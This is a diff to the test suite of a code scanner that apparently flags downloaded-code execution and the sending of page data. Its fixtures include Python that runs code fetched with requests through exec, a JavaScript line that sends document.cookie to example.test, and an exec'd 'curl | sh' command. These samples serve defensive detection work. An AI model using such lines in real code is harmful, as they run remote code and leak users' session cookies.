@@ -80,6 +80,46 @@ test('what one caller passes is not held against another', () => {
   assert.equal(scanCode([{ path: 'a.py', text }], [], parser).findings.some(isBlocking), false)
 })
 
+test('a function without telling words is read when something telling is given to it', () => {
+  const work = '    y = [n * n for n in range(10)]\n'.repeat(20)
+  const text = `import requests\ndef keep(x, f):\n${work}    f(x)\n`
+  const given = scanCode([{ path: 'a.py', text: `${text}keep(requests.get(u).text, exec)\n` }], [], parser)
+  assert.deepEqual(
+    given.findings.filter(isBlocking).map(({ rule, line_number }) => `${rule} ${line_number}`),
+    ['downloaded-code 23'],
+  )
+  const plain = scanCode([{ path: 'a.py', text: `${text}keep(1, print)\n` }], [], parser)
+  assert.equal(plain.findings.some(isBlocking), false)
+})
+
+test('a bundle is looked at function by function, and only the text of the longest scripts', () => {
+  const theft = 'function f() { const c = document.cookie; fetch("https://example.test/?c=" + c) }\n'
+  const script = (length: number) => [
+    { path: 'web/x.js', text: theft + 'function g() { return 1 }\n'.repeat(length / 26) },
+  ]
+  const bundle = scanCode([], script(300_000), parser)
+  assert.deepEqual(
+    bundle.findings.filter(isBlocking).map(({ rule }) => rule),
+    ['page-data-sent'],
+  )
+  const { findings, problems } = scanCode([], script(1_200_000), parser)
+  assert.deepEqual(findings, [])
+  assert.deepEqual(
+    problems.map(({ path, severity }) => `${severity} ${path}`),
+    ['medium web/x.js'],
+  )
+})
+
+test('what one thing from outside holds says nothing of another with an attribute of that name', () => {
+  const text =
+    'import git, os, sys, runpy\ngit.Repo.clone_from("https://example.test/a", "helpers")\nsys.path.append("helpers")\nrunpy.run_path(os.path.join(here, "own.py"))\n'
+  const found = scanCode([{ path: 'a.py', text }], [], parser).findings.filter(isBlocking)
+  assert.deepEqual(
+    found.map(({ rule, line_number }) => `${rule} ${line_number}`),
+    ['downloaded-code 3'],
+  )
+})
+
 test('code inside of a text is read too, and found at the text', () => {
   const text = 'x = 1\nexec("import os\\nos.system(\'curl https://example.test/x | sh\')")\n'
   const found = scanCode([{ path: 'a.py', text }], [], parser).findings.filter(isBlocking)
